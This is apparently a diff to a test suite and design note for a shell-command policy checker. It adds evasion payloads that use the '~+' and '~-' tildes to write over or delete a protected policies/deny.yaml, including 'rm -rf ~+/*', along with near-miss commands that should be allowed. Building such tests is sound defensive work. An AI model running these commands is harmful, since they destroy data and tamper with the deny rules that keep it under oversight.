@@ -16,6 +16,7 @@ language or through a configuration the Programs table did not describe.
 - Writes into an engine folder the line does not name file by file: `cd policies && curl -O URL`,
   `wget URL`, `git stash pop`, `git init`; `git worktree add policies/x`, `git submodule add URL
   policies/x`, `git config -f policies/x.yaml`; `borg extract` at the project's top.
+- The shell's other tildes: `echo x > ~+/policies/deny.yaml` (`~+` is $PWD), `cd ~-` ($OLDPWD).
 
 Each is data in policies/executors.yaml. Verdicts share one engine; the harm runs for one payload
 (node's module from node_modules/, through the engine's terminal with a real node when installed).
@@ -91,6 +92,10 @@ PAYLOADS: dict[str, tuple[dict[str, str], str]] = {
     "git submodule add": ({}, "git submodule add https://e.example/r policies/x"),
     "git config -f": ({}, "git config -f policies/x.yaml a.b c"),
     "borg extract at the top": ({}, "borg extract ::a"),
+    # the shell's other tildes: `~+` is $PWD, `~-` is $OLDPWD (read as a user's home)
+    "~+ names the working folder": ({}, "echo x > ~+/policies/deny.yaml"),
+    "cd ~-": ({}, "cd ~- && echo x > policies/deny.yaml"),
+    "rm -rf ~+": ({}, "cd policies && rm -rf ~+/*"),
 }
 NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
     "eslint config": ({"eslint.config.js": "export default [{rules: {semi: 'error'}}];\n"}, "npx eslint ."),
@@ -122,6 +127,8 @@ NEAR_MISSES: dict[str, tuple[dict[str, str], str]] = {
     "git pull": ({}, "git pull"),
     "git worktree elsewhere": ({}, "git worktree add ../wt"),
     "git config -f .gitmodules": ({}, "git config -f .gitmodules a.b c"),
+    "~+ a project file": ({}, "cat ~+/README.md"),
+    "~- listed": ({}, "cd src; ls ~-"),
 }
 
 
